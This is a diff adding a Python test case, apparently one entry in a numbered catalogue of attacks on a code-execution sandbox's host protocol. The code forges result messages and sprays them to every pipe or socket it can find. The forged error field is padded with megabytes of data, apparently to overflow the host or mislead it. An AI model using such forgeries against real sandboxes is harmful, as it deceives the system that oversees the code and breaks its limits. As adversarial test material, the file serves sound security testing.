@@ -1,0 +1,35 @@
+# id: 426
+# name: error_of_megabytes
+# category: protocol
+# technique: a forged error with much to say
+# breach: bigout
+# looks_like: the host keeps all of it
+# baseline: credulous
+import os, stat
+
+
+def spray(data):
+    """To whatever leads out of this process."""
+    for fd in range(64):
+        try:
+            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
+                os.write(fd, data)
+        except OSError:
+            pass
+
+
+def message(text, *blobs):
+    header = text.encode()
+    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)
+
+
+def done(value, *blobs):
+    """The end of this snippet, forged, with a value in the kernel's own notation."""
+    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
+    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)
+
+
+spray(message(RESULT_TMPL.replace('@@', 'null').replace('"error": null', '"error": ["E", "%s", 1, "", null]' % ('A' * 3_900_000 + 'B' * 400_000)))[:0]
+      or message(RESULT_TMPL.replace('@@', 'null').replace('"error": null', '"error": ["E", "%s", 1, "", null]' % ('A' * 4_190_000))))
+import time
+time.sleep(0.2)
